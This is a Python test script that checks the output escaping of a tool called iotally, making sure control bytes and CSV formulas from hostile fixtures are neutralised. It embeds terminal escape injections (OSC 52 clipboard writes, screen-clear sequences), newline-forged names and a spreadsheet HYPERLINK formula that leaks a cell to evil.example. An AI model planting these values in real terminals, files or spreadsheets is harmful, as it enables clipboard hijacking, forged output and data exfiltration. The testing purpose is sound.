#!/usr/bin/env python3
"""No control byte from an input reaches a text output; no CSV cell is a formula.

Usage: output-escaping.py --bin IOTALLY --root SOURCE_ROOT

Runs every command and text format over fixtures/hostile-output/ and
fixtures/bundle/hostile-names/ (their README says what they hold) and checks,
in standard output and standard error alike:
  - valid UTF-8, with no C0 control other than the writer's own line ends
    (LF; CR only as the CRLF of CSV records), no DEL, no C1 control;
  - each hostile name appears in the form this script's own reading of the
    rule gives (Python's strict UTF-8 decoder, not iotally's code): a test
    that drops the names, or escapes them some other way, fails;
  - CSV: parsed by Python's csv module, every text cell that came from the
    input starts with none of = + - @ TAB CR (a neutralised one starts with
    '), and every numeric cell is a plain integer.
JSON output is left out: it carries the exact bytes, escaped by JSON's rules.
"""

import argparse
import csv
import io
import os
import shutil
import sys
import tempfile

from casecheck import fail, finish, run_iotally

OSC52 = b'\x1b]52;c;aGVsbG8=\x07'
CLASS_NAMES = [b'Evil' + OSC52 + b'Name', b'Csi\xc2\x9b2JName', b'Del\x7fName', b'Latin\xe9Name',
               b'Caf\xc3\xa9 \\x1b plain']
TYPE_NAMES = [b'Evil' + OSC52 + b'Type', b'Csi\xc2\x9b2J\tTab']
TRACK_NAMES = [b'com.example.' + OSC52 + b'drv', b'Evil' + OSC52 + b'::map\rX()',
               b'/src/\x7fdel.cpp']


def escape(b):
    """The rule of src/util/escape.h, read independently: decode each unit strictly."""
    out = []
    i = 0
    while i < len(b):
        unit = None
        for n in (1, 2, 3, 4):
            try:
                ch = b[i:i + n].decode('utf-8')
            except UnicodeDecodeError:
                continue
            if len(ch) == 1:
                unit = (ch, n)
                break
        if unit is None:
            out.append('\\x%02x' % b[i])
            i += 1
            continue
        ch, n = unit
        cp = ord(ch)
        if cp < 0x20 or 0x7f <= cp <= 0x9f:
            out.append(''.join('\\x%02x' % c for c in b[i:i + n]))
        else:
            out.append(ch)
        i += n
    return ''.join(out)


def check_text(case, data, what, csv_crlf=False):
    try:
        text = data.decode('utf-8')
    except UnicodeDecodeError as e:
        fail(case, '%s is not UTF-8: %s' % (what, e))
        return None
    body = text.replace('\r\n', '\n') if csv_crlf else text
    for ch in body:
        cp = ord(ch)
        if (cp < 0x20 and ch != '\n') or 0x7f <= cp <= 0x9f:
            fail(case, '%s holds control U+%04X' % (what, cp))
            return None
    return text


def run(args, case, expect_status=(0,), csv_crlf=False, cwd=None):
    p = run_iotally(ARGS.bin, args, cwd=cwd or ARGS.root)
    if p.returncode not in expect_status:
        fail(case, 'exit %d: %s' % (p.returncode, p.stderr.decode(errors='replace')[:300]))
    out = check_text(case, p.stdout, 'stdout', csv_crlf)
    err = check_text(case, p.stderr, 'stderr')
    return out, err


def expect_names(case, text, names, markdown=False):
    if text is None:
        return
    for n in names:
        want = escape(n)
        if markdown:   # the Markdown writers also backslash-escape punctuation
            want = want.replace('\\', '\\\\').replace(']', '\\]')
        if want not in text:
            fail(case, 'the name %r is not shown as %r' % (n, want))


def check_csv(case, text):
    if text is None:
        return
    rows = list(csv.reader(io.StringIO(text, newline='')))
    head = rows[0]
    text_cols = [head.index('process'), head.index('type')]
    num_cols = [head.index(c) for c in ('dump', 'pid', 'count', 'vsize', 'resident', 'dirty',
                                         'swapped')]
    seen = set()
    for r in rows[1:]:
        for c in text_cols:
            if r[c][:1] in ('=', '+', '-', '@', '\t', '\r'):
                fail(case, 'formula cell %r' % r[c])
            seen.add(r[c])
        for c in num_cols:
            if r[c] and not r[c].isdigit():
                fail(case, 'numeric cell %r changed' % r[c])
    want = {"'" + '=HYPERLINK("http://evil.example/?"&A1,"open")', "'@SUM(1+1)",
            escape(TYPE_NAMES[0]), escape(TYPE_NAMES[1]), 'IOSurface'}
    if not want <= seen:
        fail(case, 'CSV cells %r are missing' % sorted(want - seen))


def main():
    global ARGS
    ap = argparse.ArgumentParser()
    ap.add_argument('--bin', required=True)
    ap.add_argument('--root', required=True)
    ARGS = ap.parse_args()
    ARGS.bin = os.path.abspath(ARGS.bin)
    h = 'fixtures/hostile-output/'
    cb, ca = h + 'classes-before.txt', h + 'classes-after.txt'

    for fmt in ('text', 'markdown'):
        out, _ = run(['classes', '--format', fmt, cb], 'classes ' + fmt)
        expect_names('classes ' + fmt, out, CLASS_NAMES, fmt == 'markdown')
        out, _ = run(['diff', '--format', fmt, cb, ca], 'diff classes ' + fmt)
        expect_names('diff classes ' + fmt, out, CLASS_NAMES[:2] + CLASS_NAMES[3:],
                     fmt == 'markdown')
        out, _ = run(['report', '--format', fmt, cb, ca], 'report classes ' + fmt,
                     ) if fmt == 'markdown' else (None, None)
        expect_names('report classes ' + fmt, out, CLASS_NAMES[:2] + CLASS_NAMES[3:], True)
    out, _ = run(['classes', '--format', 'text', cb, 'Evil\x1b]52;c;x\x07'], 'classes query')

    v = h + 'vmmap-formula.txt'
    for args in (['--all-types'], ['--all-types', '--format', 'markdown'],
                 ['--types', 'Nope\x1b[2J']):
        case = 'vmmap ' + ' '.join(args)
        out, _ = run(['vmmap'] + args + [v], case)
        if args == ['--all-types']:
            expect_names(case, out, TYPE_NAMES)
    out, _ = run(['vmmap', '--all-types', '--format', 'csv', v], 'vmmap csv', csv_crlf=True)
    check_csv('vmmap csv', out)
    out, _ = run(['report', '--format', 'markdown', v], 'report vmmap markdown')
    out, _ = run(['report', '--format', 'html', v], 'report vmmap html')
    out, _ = run(['diff', '--format', 'markdown',
                  'fixtures/vmmap/process-names-with-dashes.txt', v], 'diff vmmap markdown')
    out, _ = run(['diff', 'fixtures/vmmap/process-names-with-dashes.txt', v],
                 'diff vmmap text')
    expect_names('diff vmmap text', out, TYPE_NAMES)

    t = h + 'track.txt'
    for args in ([], ['--by', 'module'], ['--by', 'symbol'], ['--folded'],
                 ['--format', 'markdown']):
        case = 'track ' + ' '.join(args)
        out, _ = run(['track'] + args + [t], case)
        names = {(): TRACK_NAMES, ('--by', 'module'): TRACK_NAMES[:1],
                 ('--by', 'symbol'): TRACK_NAMES[:2]}.get(tuple(args))
        if names:
            expect_names(case, out, names)
    for fmt in ('text', 'markdown'):
        out, _ = run(['diff', '--format', fmt, 'fixtures/track/hostile/non-utf8.txt', t],
                     'diff track ' + fmt)
    out, _ = run(['diff', '--folded', 'fixtures/track/hostile/non-utf8.txt', t], 'diff track folded')

    b = 'fixtures/bundle/hostile-names'
    out, err = run([b], 'bundle listing', expect_status=(0,))
    if out is not None:
        first = out.split('\n')[0]
        want = ('fixtures/bundle/hostile-names: partial capture of evil\\x0a  vmmap    '
                'target/forged.txt (step target.vmmap)\\x0a\\x1b]52;c;aGVsbG8=\\x07clip '
                'started 2026-11-29T10:15:30Z')
        if first != want:
            fail('bundle listing', 'first line %r' % first)
        if '\n  vmmap    target/forged.txt' in out:
            fail('bundle listing', 'a forged line reached the listing')
    out, _ = run(['report', '--format', 'markdown', b], 'report bundle', expect_status=(0, 65))

    tmp = tempfile.mkdtemp(prefix='iotally-escaping-')
    try:
        # A member name and a folder name holding control bytes: redact's messages.
        src = os.path.join(tmp, 'in\x1b]0;title\x07')
        shutil.copytree(os.path.join(ARGS.root, b), src)
        os.rename(os.path.join(src, 'host', 'sw_vers.txt'),
                  os.path.join(src, 'host', 'sw\x1b[2Jvers\n.txt'))
        run(['redact', '-o', os.path.join(tmp, 'out\x1b[31m'), src], 'redact',
            expect_status=(0, 65, 66, 73))
        run(['vmmap', os.path.join(tmp, 'missing\x1b]52;c;x\x07.txt')], 'missing file',
            expect_status=(66,))
    finally:
        shutil.rmtree(tmp)

    return finish()


if __name__ == '__main__':
    sys.exit(main())
